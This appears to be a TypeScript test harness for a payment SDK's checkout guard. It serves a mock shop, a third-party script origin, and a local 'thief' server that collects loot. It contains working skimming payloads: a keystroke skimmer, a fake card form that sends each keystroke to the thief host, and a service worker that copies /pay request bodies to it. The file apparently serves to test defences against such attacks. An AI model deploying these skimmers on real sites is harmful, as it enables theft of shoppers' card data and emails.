import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { newSession } from '../../support/stack/service-client.ts';
import { MERCHANT_ID, PUBLISHABLE_KEY, type Stack } from '../../support/stack/stack.ts';

/** A shopper whom the thief has chosen: some attacks show themselves to nobody else. */
export type Visitor = { readonly isChosen: boolean };

/** What a page of the shop is made of. An attack returns another. */
export type Site = {
  readonly head: string;
  readonly body: string;
  readonly guard: string;
  /** The shop's own script, its tag manager's on another origin, and a library there that is pinned by no hash. */
  readonly app: string;
  readonly manager: string;
  readonly library: string;
  /** The query of the tag manager's address. */
  readonly container: string;
  readonly headers: Readonly<Record<string, string>>;
  /** Another answer than the page. Default: the page. */
  readonly redirect?: string;
};
type Hosts = { readonly shop: string; readonly others: string; readonly thief: string };
export type Attack = (site: Site, at: Hosts & Visitor) => Partial<Site>;

/** Of a page whose name begins with `strict`: what stands in it runs only by its nonce. Others have a policy that stops no theft. */
const policyOf = (stack: Stack, { others }: Hosts, name: string, nonce: string) =>
  name.startsWith('strict')
    ? `script-src 'self' 'nonce-${nonce}' ${others} ${stack.serviceUrl}; object-src 'none'`
    : "object-src 'none'";

const APP = `
  document.querySelector('#pay').addEventListener('click', async () => {
    const form = new FormData(document.querySelector('#order'));
    const paymentMethod = await sdk.wallet.getPaymentMethod().catch(() => null);
    const body = JSON.stringify({ email: form.get('email'), paymentMethod });
    await fetch('/pay', { method: 'POST', body });
    document.querySelector('#told').textContent = 'Order taken';
  });
`;

/**
 * A shop with a guarded checkout, another origin with its tag manager and a library, and a thief's server that keeps what it is
 * sent. Each attack has a page of its own: `/checkout/<name>`.
 */
export type GuardedShop = Awaited<ReturnType<typeof openGuardedShop>>;

export async function openGuardedShop(stack: Stack, attacks: ReadonlyMap<string, Attack>) {
  const attacked = new Set<string>();
  const loot: string[] = [];
  let load = 0;
  const thief = await listen(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    loot.push(`${request.url} ${body}`.replaceAll('%40', '@'));
    response.setHeader('Access-Control-Allow-Origin', '*');
    if (request.url?.startsWith('/skim')) return script(response, skimmer(thief.url));
    return html(response, FAKE_FORM(thief.url));
  });
  const nameOf = (path: string) => path.split('/')[2]?.split('?')[0] ?? '';
  const siteFor = (name: string, visitor: Visitor): Site => {
    load += 1;
    const hosts = { shop: shop.url, others: others.url, thief: thief.url };
    const plain = plainSite(stack, hosts, name, load);
    const attack = attacked.has(name) ? attacks.get(name) : undefined;
    return { ...plain, ...attack?.(plain, { ...hosts, ...visitor }) };
  };
  const visitorOf = (request: IncomingMessage): Visitor => ({
    isChosen: /chosen/.test(request.headers.cookie ?? ''),
  });
  const others = await listen((request, response) => {
    const site = siteFor(nameOf(request.url ?? ''), visitorOf(request));
    if (request.url?.startsWith('/manager/')) return script(response, site.manager);
    if (request.url?.startsWith('/library/')) return script(response, site.library);
    return response.writeHead(404).end();
  });
  const shop = await listen(async (request, response) => {
    const path = request.url ?? '/';
    if (path.startsWith('/session'))
      return json(response, await newSession(stack.serviceUrl, { merchant_id: `${MERCHANT_ID}` }));
    if (path === '/sw.js') return script(response, serviceWorker(thief.url));
    if (path === '/pay') return json(response, {});
    const site = siteFor(nameOf(path), visitorOf(request));
    if (path.startsWith('/app/')) return script(response, site.app);
    if (!path.startsWith('/checkout/')) return response.writeHead(404).end();
    if (site.redirect) return response.writeHead(302, { Location: site.redirect }).end();
    for (const [key, value] of Object.entries(site.headers)) response.setHeader(key, value);
    const head = site.head.replace('{guard}', site.guard).replace('{container}', site.container);
    return html(
      response,
      `<!doctype html><html lang="en"><head>${head}</head><body>${site.body}</body></html>`,
    );
  });
  return {
    url: shop.url,
    hosts: { shop: shop.url, others: others.url, thief: thief.url },
    loot,
    begin: (name: string) => attacked.add(name),
    close: () => {
      for (const each of [thief, others, shop]) each.close();
    },
  };
}

function plainSite(stack: Stack, hosts: Hosts, name: string, load: number): Site {
  const { others } = hosts;
  const nonce = `n${load}r${Math.random().toString(36).slice(2)}`;
  const init = `sdk.auth.connect({ publishableKey: '${PUBLISHABLE_KEY}', refreshToken: async () => (await fetch('/session')).json() });
    sdk.wallet.init({ merchant_id: ${MERCHANT_ID}, view: 'CHECKOUT' }, { currency: 'EUR', amount: '48.50' });`;
  return {
    guard: `<script nonce="${nonce}" src="${stack.serviceUrl}/sdk/guard.js" data-key="${PUBLISHABLE_KEY}" async></script>`,
    head: `<title>Checkout</title><meta charset="utf-8">{guard}
      <script src="${stack.serviceUrl}/sdk/sdk.js" crossorigin="anonymous"></script>
      <script src="${others}/manager/${name}?{container}" async></script>
      <script src="${others}/library/${name}?v=${load}"></script>`,
    body: `<main><h1>${load % 2 ? 'Checkout' : 'Your order'}</h1><form id="order" action="/pay" onsubmit="return false">
      <label>E-mail <input id="email" name="email"></label></form><div id="wallet"></div>
      <button id="pay" type="button">Pay €48.50</button><p id="told"></p>
      <script nonce="${nonce}">window.visit = { at: ${Date.now()}, id: '${nonce}', text: ${load % 3} };</script>
      <script nonce="${nonce}">${init}</script><script src="/app/${name}"></script></main>`,
    app: APP,
    manager: `window.tags = ['page_view'];`,
    library: `window.library = { version: '1.0' };`,
    container: 'id=GTM-SHOP',
    headers: { 'Content-Security-Policy': policyOf(stack, hosts, name, nonce) },
  };
}

/** Sends off what stands in the page's fields, at each press of a key. */
export const skimmer = (thief: string) =>
  `document.addEventListener('keyup', () => { new Image().src = '${thief}/i?' + document.querySelector('#email').value });`;

/** A form that asks for a card and sends it off. */
export const FAKE_FORM = (thief: string) =>
  `<form><input class="fake" name="cardnumber" autocomplete="cc-number" aria-label="Card"
    oninput="new Image().src='${thief}/i?'+this.value"></form>`;

const serviceWorker = (thief: string) => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (!event.request.url.endsWith('/pay')) return;
    event.respondWith((async () => {
      const body = await event.request.clone().text();
      await fetch('${thief}/i', { method: 'POST', mode: 'no-cors', body });
      return fetch(event.request);
    })());
  });`;

const html = (response: ServerResponse, text: string) =>
  response.setHeader('Content-Type', 'text/html; charset=utf-8').end(text);
const script = (response: ServerResponse, text: string) =>
  response
    .setHeader('Content-Type', 'text/javascript')
    .setHeader('Cache-Control', 'no-cache')
    .setHeader('Cross-Origin-Resource-Policy', 'cross-origin')
    .end(text);
const json = (response: ServerResponse, value: unknown) =>
  response.setHeader('Content-Type', 'application/json').end(JSON.stringify(value));

async function listen(answer: (request: IncomingMessage, response: ServerResponse) => unknown) {
  const server = createServer(answer);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://localhost:${port}`,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
